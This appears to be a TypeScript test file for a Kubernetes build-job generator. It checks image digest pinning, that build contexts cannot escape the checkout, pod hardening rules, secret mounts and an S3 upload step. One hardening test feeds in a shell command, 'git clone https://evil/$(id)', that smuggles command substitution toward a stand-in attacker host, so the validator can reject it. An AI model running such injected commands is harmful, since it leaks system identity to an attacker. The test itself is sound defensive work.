import { manifestSpec } from '../../test/support/build-specs.js';
import { type PodSpec, restrictedViolations } from '../../test/support/pod-security.js';
import type { V1Job } from '@kubernetes/client-node';

import type { BuildSpec, SpecContext } from '../manifest/build-spec.js';
import { BUILDKIT_IMAGE, GIT_IMAGE, isPinnedByDigest, KANIKO_IMAGE } from './images.js';
import {
  buildObjectName,
  cacheReference,
  contextDirectory,
  DEFAULT_JOB_SETTINGS,
  hardeningProblems,
  type JobContext,
  jobOf,
  type JobPlan,
  onInsecureRegistry,
  S3_CREDENTIAL_KEYS,
  SOURCE_SECURITY_CONTEXT,
} from './job.js';
import { kaniko } from './kaniko.js';
import { STEP_SECURITY_CONTEXT } from './steps.js';
import type { MethodName } from '../manifest/types.js';

const specContext: SpecContext = {
  project: {
    name: 'web',
    gitRepositoryUrl: 'https://git.example.com/web.git',
    defaultRegistry: null,
  },
  defaultRegistry: 'reg.io/kiln',
  timeoutSeconds: 600,
};

const jobContext: JobContext = {
  buildId: '0f0e0d0c-0b0a-4909-8807-060504030201',
  tenantId: 'tenant-1',
  projectId: 'project-1',
  buildNumber: 3,
  namespace: 'kiln-builds',
  settings: DEFAULT_JOB_SETTINGS,
  configMapName: 'kiln-0f0e0d0c-0b0a-4909-8807-060504030201',
};

/** The spec kiln stores for a manifest of `type` with no build-time environment. */
function specOf(type: MethodName, buildConfig: Record<string, unknown>): BuildSpec {
  return manifestSpec(specContext, type, buildConfig, { environment: {} });
}

/** A kaniko Job that keeps every rule, to break one rule at a time. */
function goodJob(): V1Job {
  const translation = kaniko.jobSpec(
    specOf('kaniko', { dockerfile: 'FROM scratch\n' }),
    jobContext,
  );
  if (translation.kind !== 'job') throw new Error(translation.reason);
  return structuredClone(translation.job);
}

describe('DEFAULT_JOB_SETTINGS', () => {
  it('pins every image by digest', () => {
    expect([
      ...Object.values(DEFAULT_JOB_SETTINGS.builderImages),
      DEFAULT_JOB_SETTINGS.gitImage,
    ]).toEqual([KANIKO_IMAGE, BUILDKIT_IMAGE, GIT_IMAGE]);
    expect(isPinnedByDigest(KANIKO_IMAGE)).toBe(true);
    expect(isPinnedByDigest(BUILDKIT_IMAGE)).toBe(true);
    expect(isPinnedByDigest(GIT_IMAGE)).toBe(true);
  });

  it('names no credentials, service account, insecure registry or paketo run image', () => {
    expect(DEFAULT_JOB_SETTINGS.paketoRunImages).toBeUndefined();
    expect(DEFAULT_JOB_SETTINGS.credentialsSecret).toBeUndefined();
    expect(DEFAULT_JOB_SETTINGS.serviceAccountName).toBeUndefined();
    expect(DEFAULT_JOB_SETTINGS.insecureRegistries).toEqual([]);
  });
});

describe(isPinnedByDigest.name, () => {
  it.each([
    ['alpine@sha256:' + 'a'.repeat(64), true],
    ['reg.io:5000/a/b:1.2@sha256:' + '0'.repeat(64), true],
    ['alpine:3.20', false],
    ['alpine@sha256:' + 'a'.repeat(63), false],
    ['alpine@sha256:' + 'A'.repeat(64), false],
    ['alpine:latest @sha256:' + 'a'.repeat(64), false],
  ])('%s → %s', (image, pinned) => {
    expect(isPinnedByDigest(image)).toBe(pinned);
  });
});

describe(buildObjectName.name, () => {
  it('names the Job and the ConfigMap kiln-<buildId>', () => {
    expect(buildObjectName('abc')).toBe('kiln-abc');
  });
});

describe(contextDirectory.name, () => {
  const source = (repository: string | null, context: string) => ({
    repository,
    branch: null,
    commit: null,
    context,
  });

  it.each([
    ['.', '/workspace/source'],
    ['app', '/workspace/source/app'],
    ['./app/../web/', '/workspace/source/web'],
    ['app/..', '/workspace/source'],
  ])('puts %s under the checkout at %s', (context, dir) => {
    expect(contextDirectory(source('https://g/x.git', context))).toBe(dir);
  });

  it.each(['..', '../x', '/etc', 'a/../../b'])('refuses %s, outside the checkout', (context) => {
    expect(contextDirectory(source('https://g/x.git', context))).toEqual({
      problem: `build context ${context} is outside the source`,
    });
  });

  it('uses the ConfigMap directory without a repository', () => {
    expect(contextDirectory(source(null, '.'))).toBe('/kiln/dockerfile');
    expect(contextDirectory(source(null, './'))).toBe('/kiln/dockerfile');
  });
});

describe(hardeningProblems.name, () => {
  it('finds nothing wrong in a translated Job', () => {
    expect(hardeningProblems(goodJob())).toEqual([]);
  });

  it.each<[string, (job: V1Job) => void, string]>([
    ['a retrying Job', (job) => (job.spec!.backoffLimit = 1), 'backoffLimit must be 0'],
    [
      'no deadline',
      (job) => delete job.spec!.activeDeadlineSeconds,
      'activeDeadlineSeconds must be a positive integer',
    ],
    [
      'a TTL before the logs are stored',
      (job) => (job.spec!.ttlSecondsAfterFinished = 60),
      'ttlSecondsAfterFinished is set only after the logs are stored',
    ],
    [
      'an owner already set',
      (job) =>
        (job.metadata!.ownerReferences = [{ apiVersion: 'v1', kind: 'X', name: 'x', uid: 'u' }]),
      'ownerReferences are set by the reconciler',
    ],
    [
      'a pod without the build id label',
      (job) => delete job.spec!.template.metadata!.labels!['kiln.dev/build-id'],
      'the pod template must carry kiln.dev/build-id',
    ],
    [
      'a restarting pod',
      (job) => (job.spec!.template.spec!.restartPolicy = 'OnFailure'),
      'restartPolicy must be Never',
    ],
    [
      'a mounted token',
      (job) => delete job.spec!.template.spec!.automountServiceAccountToken,
      'automountServiceAccountToken must be false',
    ],
    [
      'service links',
      (job) => (job.spec!.template.spec!.enableServiceLinks = true),
      'enableServiceLinks must be false',
    ],
    [
      'the host network',
      (job) => (job.spec!.template.spec!.hostNetwork = true),
      'the pod must not set hostNetwork',
    ],
    [
      'the host user namespace named explicitly',
      (job) => (job.spec!.template.spec!.hostUsers = true),
      'the pod must not set hostUsers',
    ],
    [
      'no seccomp profile',
      (job) => delete job.spec!.template.spec!.securityContext,
      'the pod must use the RuntimeDefault seccomp profile',
    ],
    [
      'a hostPath volume',
      (job) => job.spec!.template.spec!.volumes!.push({ name: 'h', hostPath: { path: '/' } }),
      'volume h is a hostPath',
    ],
    [
      'an image by tag',
      (job) => (job.spec!.template.spec!.containers[0]!.image = 'alpine:3'),
      'container build: image alpine:3 is not pinned by digest',
    ],
    [
      'no ephemeral-storage limit',
      (job) =>
        delete job.spec!.template.spec!.initContainers![0]!.resources!.limits!['ephemeral-storage'],
      'container source: no ephemeral-storage in resources.limits',
    ],
    [
      'a privileged container',
      (job) => (job.spec!.template.spec!.containers[0]!.securityContext!.privileged = true),
      'container build: privileged',
    ],
    [
      'the default termination message policy',
      (job) => delete job.spec!.template.spec!.containers[0]!.terminationMessagePolicy,
      'container build: terminationMessagePolicy must be FallbackToLogsOnError',
    ],
    [
      'user text in a shell script',
      (job) =>
        (job.spec!.template.spec!.initContainers![0]!.command = [
          '/bin/sh',
          '-c',
          'git clone https://evil/$(id)',
        ]),
      "container source: a shell runs a script other than kiln's constant scripts",
    ],
  ])('reports %s', (_name, breakIt, problem) => {
    const job = goodJob();
    breakIt(job);

    expect(hardeningProblems(job)).toEqual([problem]);
  });
});

describe(jobOf.name, () => {
  const spec = specOf('kaniko', { dockerfile: 'FROM scratch\n' });
  const plain: JobPlan = {
    builder: {
      image: KANIKO_IMAGE,
      command: ['/bin/true'],
      args: [],
      env: [],
      securityContext: { runAsUser: 1000 },
      dockerConfigDir: '/docker',
    },
    files: { Dockerfile: 'FROM scratch\n', NAME: 'value' },
    notes: [],
  };

  function translate(plan: Partial<JobPlan>, context: Partial<JobContext> = {}) {
    const translation = jobOf(spec, { ...jobContext, ...context }, { ...plain, ...plan });
    if (translation.kind !== 'job') throw new Error(translation.reason);
    const pod = translation.job.spec!.template.spec!;
    return { translation, pod, builder: pod.containers[0]!, source: pod.initContainers![0]! };
  }

  it('adds nothing for a plan without the optional parts', () => {
    const { translation, pod, builder, source } = translate({});

    expect(pod.securityContext).toEqual({ seccompProfile: { type: 'RuntimeDefault' } });
    expect(pod.volumes?.map((volume) => volume.name)).toEqual([
      'workspace',
      'source-tmp',
      'dockerfile',
    ]);
    expect(builder.volumeMounts?.map((mount) => mount.name)).toEqual(['workspace', 'dockerfile']);
    expect(source.securityContext).toEqual(SOURCE_SECURITY_CONTEXT);
    expect(translation).not.toHaveProperty('secretKeys');
  });

  it('adds pod security fields but keeps the RuntimeDefault seccomp profile', () => {
    const { translation, pod } = translate({
      podSecurityContext: { fsGroup: 1000, runAsNonRoot: true },
    });

    expect(pod.securityContext).toEqual({
      fsGroup: 1000,
      runAsNonRoot: true,
      seccompProfile: { type: 'RuntimeDefault' },
    });
    expect(hardeningProblems(translation.job)).toEqual([]);
  });

  it('clones as the user the plan names, keeping every other restriction', () => {
    const { source } = translate({ sourceUser: { runAsUser: 1001, runAsGroup: 1000 } });

    expect(source.securityContext).toEqual({
      ...SOURCE_SECURITY_CONTEXT,
      runAsUser: 1001,
      runAsGroup: 1000,
    });
  });

  it('mounts chosen ConfigMap keys one by one as plain files', () => {
    const { builder } = translate({
      fileMounts: [{ key: 'NAME', mountPath: '/platform/env/NAME' }],
    });

    expect(builder.volumeMounts).toContainEqual({
      name: 'dockerfile',
      mountPath: '/platform/env/NAME',
      subPath: 'NAME',
      readOnly: true,
    });
  });

  it('mounts only the named keys of the build Secret, read-only, mode 0400, and lists them', () => {
    const { translation, pod, builder } = translate(
      { buildSecretKeys: ['build-secret.npm'] },
      { buildSecretName: 'kiln-b1' },
    );

    expect(pod.volumes).toContainEqual({
      name: 'build-secrets',
      secret: {
        secretName: 'kiln-b1',
        items: [{ key: 'build-secret.npm', path: 'build-secret.npm' }],
        defaultMode: 0o400,
      },
    });
    expect(builder.volumeMounts).toContainEqual({
      name: 'build-secrets',
      mountPath: '/kiln/build-secrets',
      readOnly: true,
    });
    expect(translation.secretKeys).toEqual(['build-secret.npm']);
  });

  it('refuses build secrets when there is no build Secret to mount them from', () => {
    expect(jobOf(spec, jobContext, { ...plain, buildSecretKeys: ['build-secret.npm'] })).toEqual({
      kind: 'unsupported',
      reason: 'this build has secrets, but the operator gave it no build Secret to mount them from',
    });
  });

  it('runs the pod in a user namespace when the settings ask, keeping every hardening rule', () => {
    const settings = { ...DEFAULT_JOB_SETTINGS, userNamespaces: true };
    const { translation, pod } = translate({}, { settings });

    expect(pod.hostUsers).toBe(false);
    expect(translation.notes.filter((note) => /user namespace/.test(note))).toEqual([]);
    expect(hardeningProblems(translation.job)).toEqual([]);
    expect(translate({}).pod).not.toHaveProperty('hostUsers');
  });

  it('keeps the node’s user ids for a builder that cannot run in a user namespace, and says why', () => {
    const settings = { ...DEFAULT_JOB_SETTINGS, userNamespaces: true };
    const { translation, pod } = translate(
      { noUserNamespace: 'it maps ids a pod user namespace does not hold' },
      { settings },
    );

    expect(pod).not.toHaveProperty('hostUsers');
    expect(translation.notes.filter((note) => /user namespace/.test(note))).toEqual([
      "user namespaces are on (KILN_BUILD_USER_NAMESPACES), but it maps ids a pod user namespace does not hold: this build's pod runs with the node's user ids",
    ]);
    // Without the setting there is nothing to say.
    expect(
      translate({ noUserNamespace: 'no' }).translation.notes.filter((n) => /user namesp/.test(n)),
    ).toEqual([]);
  });

  it('gives a pushing builder an output directory and scratch volumes of its own', () => {
    const { pod, builder } = translate({
      pushedImage: { format: 'cnb-report', file: '/kiln/out/report.toml' },
      scratchVolumes: [{ name: 'layers', mountPath: '/layers' }],
    });

    expect(pod.volumes).toEqual(
      expect.arrayContaining([
        { name: 'kiln-out', emptyDir: {} },
        { name: 'layers', emptyDir: {} },
      ]),
    );
    expect(builder.volumeMounts).toEqual(
      expect.arrayContaining([
        { name: 'kiln-out', mountPath: '/kiln/out' },
        { name: 'layers', mountPath: '/layers' },
      ]),
    );
  });
});

describe('jobOf with the packer-manifest step', () => {
  const spec = specOf('kaniko', { dockerfile: 'FROM scratch\n' });
  const STEP_IMAGE = `registry.example.com/kiln/kiln@sha256:${'5'.repeat(64)}`;
  const plan: JobPlan = {
    builder: {
      image: KANIKO_IMAGE,
      command: ['/bin/true'],
      args: [],
      env: [],
      securityContext: { runAsUser: 1000 },
      dockerConfigDir: '/docker',
    },
    files: { 'template.json': '{}' },
    fileMounts: [{ key: 'template.json', mountPath: '/workspace/source/template.json' }],
    notes: [],
    buildSecretKeys: ['build-secret.npm'],
    scratchVolumes: [{ name: 'home', mountPath: '/home/packer' }],
    packerManifest: { template: '/kiln/dockerfile/template.json', workingDir: '/workspace/source' },
  };
  const context: JobContext = {
    ...jobContext,
    settings: {
      ...DEFAULT_JOB_SETTINGS,
      steps: { ...DEFAULT_JOB_SETTINGS.steps, kilnImage: STEP_IMAGE },
    },
    credentialsSecret: 'registry-push',
    buildSecretName: 'kiln-b1',
  };

  it('gives the step read-only copies of the builder’s mounts, without Secrets or subPath files', () => {
    const translation = jobOf(spec, context, plan);
    if (translation.kind !== 'job') throw new Error(translation.reason);
    const pod = translation.job.spec!.template.spec!;

    expect(pod.initContainers?.map((container) => container.name)).toEqual(['source', 'build']);
    expect(pod.containers.map((container) => container.name)).toEqual(['packer-manifest']);
    expect(pod.containers[0]?.volumeMounts).toEqual([
      { name: 'workspace', mountPath: '/workspace', readOnly: true },
      { name: 'dockerfile', mountPath: '/kiln/dockerfile', readOnly: true },
      { name: 'home', mountPath: '/home/packer', readOnly: true },
    ]);
    // The builder keeps its Secrets; the step reads none of the build Secret's keys.
    expect(pod.initContainers?.[1]?.volumeMounts?.map((mount) => mount.name)).toEqual(
      expect.arrayContaining(['registry-credentials', 'build-secrets']),
    );
    expect(translation.secretKeys).toEqual(['build-secret.npm']);
    expect(hardeningProblems(translation.job)).toEqual([]);
  });

  it('runs no step without kiln’s image, and says what that costs', () => {
    const translation = jobOf(spec, { ...context, settings: DEFAULT_JOB_SETTINGS }, plan);
    if (translation.kind !== 'job') throw new Error(translation.reason);

    expect(translation.job.spec!.template.spec!.containers.map((c) => c.name)).toEqual(['build']);
    expect(translation.notes).toContain(
      "packer's manifest is not read: the operator has no KILN_STEP_IMAGE, so provenance names no artifacts",
    );
  });
});

describe('jobOf for registry_type s3', () => {
  const KILN_IMAGE = `registry.example.com/kiln@sha256:${'5'.repeat(64)}`;
  const STEPS_ON = {
    ...DEFAULT_JOB_SETTINGS,
    steps: { ...DEFAULT_JOB_SETTINGS.steps, kilnImage: KILN_IMAGE },
  };
  const spec = specOf('kaniko', { dockerfile: 'FROM scratch\n', registry_type: 's3' });
  const plan: JobPlan = {
    builder: {
      image: KANIKO_IMAGE,
      command: ['/kaniko/executor'],
      args: ['--no-push', '--oci-layout-path=/kiln/out/oci-layout'],
      env: [],
      securityContext: { runAsUser: 0 },
      dockerConfigDir: '/kaniko/.docker',
    },
    files: {},
    notes: [],
    ociLayout: { format: 'oci-dir', path: '/kiln/out/oci-layout' },
  };
  const TARGET = {
    bucket: 'kiln-images',
    prefix: 'images/ci',
    region: 'eu-west-1',
    endpoint: 'https://minio.example.com:9000',
    forcePathStyle: true,
    credentials: true,
  };
  const context: JobContext = {
    ...jobContext,
    settings: STEPS_ON,
    buildSecretName: 'kiln-b1',
    s3: TARGET,
  };
  const STEP_RESOURCES = {
    requests: { cpu: '250m', memory: '512Mi', 'ephemeral-storage': '1Gi' },
    limits: { cpu: '1', memory: '2Gi', 'ephemeral-storage': '4Gi' },
  };

  function translated(overrides: Partial<JobContext> = {}) {
    const translation = jobOf(spec, { ...context, ...overrides }, plan);
    if (translation.kind !== 'job') throw new Error(translation.reason);
    return { translation, pod: translation.job.spec!.template.spec! };
  }

  it('runs the s3-upload step after the builder, with the target in plain env and the keys from the build’s Secret', () => {
    const { translation, pod } = translated();

    expect(pod.initContainers?.map((c) => c.name)).toEqual(['source', 'build']);
    expect(pod.containers).toEqual([
      {
        name: 's3-upload',
        image: KILN_IMAGE,
        imagePullPolicy: 'IfNotPresent',
        command: ['/nodejs/bin/node', 'dist/steps/step-main.js'],
        args: ['s3-upload', 'oci-dir', 'oci-layout'],
        workingDir: '/app',
        env: [
          { name: 'KILN_STEP_OUT_DIR', value: '/kiln/out' },
          { name: 'KILN_S3_BUCKET', value: 'kiln-images' },
          { name: 'KILN_S3_PREFIX', value: 'images/ci' },
          { name: 'KILN_S3_REGION', value: 'eu-west-1' },
          { name: 'KILN_S3_ENDPOINT', value: 'https://minio.example.com:9000' },
          { name: 'KILN_S3_FORCE_PATH_STYLE', value: 'true' },
          { name: 'KILN_PROJECT_ID', value: 'project-1' },
          { name: 'KILN_BUILD_NUMBER', value: '3' },
          { name: 'KILN_TERMINATION_MESSAGE_PATH', value: '/dev/termination-log' },
          { name: 'HOME', value: '/tmp' },
          { name: 'TMPDIR', value: '/tmp' },
          {
            name: 'AWS_ACCESS_KEY_ID',
            valueFrom: { secretKeyRef: { name: 'kiln-b1', key: 's3.access-key-id' } },
          },
          {
            name: 'AWS_SECRET_ACCESS_KEY',
            valueFrom: { secretKeyRef: { name: 'kiln-b1', key: 's3.secret-access-key' } },
          },
        ],
        resources: STEP_RESOURCES,
        securityContext: STEP_SECURITY_CONTEXT,
        terminationMessagePolicy: 'FallbackToLogsOnError',
        terminationMessagePath: '/dev/termination-log',
        volumeMounts: [
          { name: 'kiln-out', mountPath: '/kiln/out' },
          { name: 'step-tmp', mountPath: '/tmp' },
        ],
      },
    ]);
    expect(pod.initContainers?.[1]?.volumeMounts).toContainEqual({
      name: 'kiln-out',
      mountPath: '/kiln/out',
    });
    expect(pod.volumes).toEqual(
      expect.arrayContaining([
        { name: 'kiln-out', emptyDir: {} },
        { name: 'step-tmp', emptyDir: {} },
      ]),
    );
    expect(translation.secretKeys).toEqual([
      S3_CREDENTIAL_KEYS.accessKeyId,
      S3_CREDENTIAL_KEYS.secretAccessKey,
    ]);
    expect(translation.notes).toEqual([
      'registry_type s3: the image is written as an OCI image layout and uploaded to s3://kiln-images/images/ci/ by the s3-upload step, not pushed to a registry',
      'the SBOM (syft) and scan (trivy) steps do not run for registry_type s3: they read the image from a registry, and this one goes to S3',
    ]);
    expect(hardeningProblems(translation.job)).toEqual([]);
    // The step is PSS restricted (the builder is what it is).
    const refused = restrictedViolations(JSON.parse(JSON.stringify(pod)) as PodSpec, {});
    expect(refused.filter((problem) => problem.includes('s3-upload'))).toEqual([]);
  });

  it('leaves the keys to the pod’s own identity when the tenant’s settings name none', () => {
    const { translation, pod } = translated({
      s3: { bucket: 'kiln-images', region: 'eu-west-1', credentials: false },
    });
    const env = pod.containers[0]?.env ?? [];

    expect(env.map((variable) => variable.name)).toEqual([
      'KILN_STEP_OUT_DIR',
      'KILN_S3_BUCKET',
      'KILN_S3_REGION',
      'KILN_PROJECT_ID',
      'KILN_BUILD_NUMBER',
      'KILN_TERMINATION_MESSAGE_PATH',
      'HOME',
      'TMPDIR',
    ]);
    expect(translation).not.toHaveProperty('secretKeys');
    expect(translation.notes[0]).toContain('uploaded to s3://kiln-images/ by the s3-upload step');
  });

  it.each<[string, Partial<JobContext>, string]>([
    [
      'without kiln’s step image',
      { settings: DEFAULT_JOB_SETTINGS },
      'registry_type s3 needs kiln’s step image to upload the image: the operator has no KILN_STEP_IMAGE',
    ],
    [
      'without an S3 target',
      { s3: undefined },
      'the image is written for S3, but the build has no S3 target',
    ],
    [
      'with keys but no build Secret',
      { buildSecretName: undefined },
      'the S3 keys have no build Secret to come from',
    ],
  ])('cannot run %s', (_name, overrides, reason) => {
    expect(jobOf(spec, { ...context, ...overrides }, plan)).toEqual({
      kind: 'unsupported',
      reason,
    });
  });
});

describe(cacheReference.name, () => {
  it.each<[string, Record<string, unknown>, string | undefined]>([
    ['the cache repository, tagged', { cache_repo: 'reg.io/team/cache' }, 'reg.io/team/cache:t'],
    [
      'a cache reference with its own tag',
      { cache_repo: 'reg.io/team/cache:x' },
      'reg.io/team/cache:x',
    ],
    ['a repository on a port', { cache_repo: 'reg.io:5000/cache' }, 'reg.io:5000/cache:t'],
    ['beside the output repository', {}, 'reg.io/team/app/cache:t'],
  ])('uses %s', (_name, config, reference) => {
    const cached = specOf('kaniko', {
      dockerfile: 'FROM scratch\n',
      registry_repository: 'reg.io/team/app',
      ...config,
    });

    expect(cacheReference(cached, 't')).toBe(reference);
  });

  it('has none without a repository to keep it in', () => {
    const spec = specOf('kaniko', { dockerfile: 'FROM scratch\n' });

    expect(cacheReference({ ...spec, output: { ...spec.output, repository: null } }, 't')).toBe(
      undefined,
    );
  });
});

describe(onInsecureRegistry.name, () => {
  const settings = { ...DEFAULT_JOB_SETTINGS, insecureRegistries: ['127.0.0.1:5000'] };

  it.each([
    ['127.0.0.1:5000/team/app:1', true],
    ['127.0.0.1:5000', false],
    ['reg.io/127.0.0.1:5000/app', false],
    ['127.0.0.1:5001/team/app', false],
  ])('%s → %s', (reference, insecure) => {
    expect(onInsecureRegistry(reference, settings)).toBe(insecure);
  });
});
